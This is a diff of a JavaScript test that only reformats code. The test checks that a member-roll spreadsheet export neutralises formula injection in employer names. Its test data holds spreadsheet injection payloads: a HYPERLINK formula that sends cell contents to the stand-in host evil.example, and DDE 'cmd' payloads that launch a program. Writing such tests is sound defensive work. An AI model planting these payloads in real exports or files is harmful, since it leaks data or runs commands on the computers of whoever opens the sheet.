@@ -22,9 +22,21 @@ describe('the roll export and formula injection', () => {
 
   it('writes an employer name set through a join that starts with =, +, -, @, tab or CR as text with a leading apostrophe', async () => {
     const { t } = h;
-    const employers = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+    const employers = [
+      '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ];
     for (const [i, employerName] of employers.entries()) {
-      await approvedMember(t, { name: `钱${'一二三四五六'[i]}`, idNumber: makeIdNumber('330621', '19920303', 401 + i), trade: 'security_guard', employerName });
+      await approvedMember(t, {
+        name: `钱${'一二三四五六'[i]}`,
+        idNumber: makeIdNumber('330621', '19920303', 401 + i),
+        trade: 'security_guard',
+        employerName,
+      });
     }
     const sheet = await exportRoll(t, 'trade=security_guard');
     const employerColumn = 9;
